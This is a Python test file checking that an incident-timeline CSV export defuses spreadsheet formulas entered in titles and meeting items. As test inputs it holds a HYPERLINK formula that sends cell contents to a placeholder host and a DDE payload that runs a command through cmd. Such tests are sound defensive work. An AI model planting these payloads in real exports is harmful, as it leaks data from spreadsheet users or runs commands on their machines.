"""The incident timeline CSV does not run formulas typed into titles or items."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from incidents import services
from tests.incidents.conftest import (
    directive_items,
    make_directive_meeting,
    make_incident,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'


def test_timeline_csv_neutralises_formula_cells(client, editor):
    incident = make_incident(title=HYPERLINK)
    meeting = make_directive_meeting(
        "@SUM(1+1)*cmd|' /C calc'!A0", held_on="2024-05-10"
    )
    services.incident_link_meeting(
        incident=incident,
        meeting=meeting,
        user=editor,
        sections=list(meeting.sections.all()),
    )
    [item] = directive_items(meeting)
    item.marker = ""
    item.save()
    services.directive_assign(item=item, all_departments=True, user=editor)
    client.force_login(editor)
    response = client.get(reverse("incidents_staff:timeline_csv", args=[incident.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][1] == "'" + HYPERLINK
    cells = [cell for row in rows for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
